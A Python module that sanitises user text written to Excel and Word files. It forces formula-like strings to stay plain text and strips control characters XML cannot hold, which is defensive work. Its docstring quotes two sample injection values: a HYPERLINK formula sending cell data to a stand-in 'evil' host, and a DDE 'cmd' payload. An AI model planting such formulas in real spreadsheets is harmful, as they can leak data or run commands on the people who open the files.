"""Office files that hold text from people: never a formula, never a character XML refuses.

A client named `=HYPERLINK("http://evil/?"&A1)` or a fault `=cmd|' /C calc'!A0` must open in
Excel or LibreOffice as the text it is. openpyxl stores a string starting with `=` as a formula;
a text cell with the quote prefix (what Excel writes for a typed `'=1+1`) stays text even when
someone edits the cell and presses Enter. The other starts (`+ - @`, tab, CR) are what
spreadsheets turn into formulas when text is typed or pasted, so they get the prefix too.
Numbers, dates and empty cells are left as they are.

Control characters pasted into a name or a fault (a vertical tab, a bell, ESC) cannot be
stored in XML at all: openpyxl and python-docx refuse the whole file, so they are dropped.
"""

from __future__ import annotations

from typing import Any, TypeVar

import msgspec
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
T = TypeVar("T")


def is_formula_like(text: str) -> bool:
    """True for text a spreadsheet could take for a formula."""
    return text.startswith(FORMULA_STARTS)


def keep_as_text(cell: Cell) -> Cell:
    """Make a cell (a write-only one too) holding formula-like text plain text; return it."""
    value: Any = cell.value
    if isinstance(value, str) and is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xml_text(text: str) -> str:
    """Text without the control characters XML cannot hold (tab, CR and LF stay)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def office_safe(value: T) -> T:
    """Every string inside a value (an Outline, its lists and tuples) made XML-safe."""
    if isinstance(value, str):
        return xml_text(value)  # type: ignore[return-value]
    if isinstance(value, list):
        return [office_safe(item) for item in value]  # type: ignore[return-value]
    if isinstance(value, tuple):
        return tuple(office_safe(item) for item in value)  # type: ignore[return-value]
    if isinstance(value, msgspec.Struct):
        fields = {name: office_safe(getattr(value, name)) for name in value.__struct_fields__}
        return msgspec.structs.replace(value, **fields)
    return value
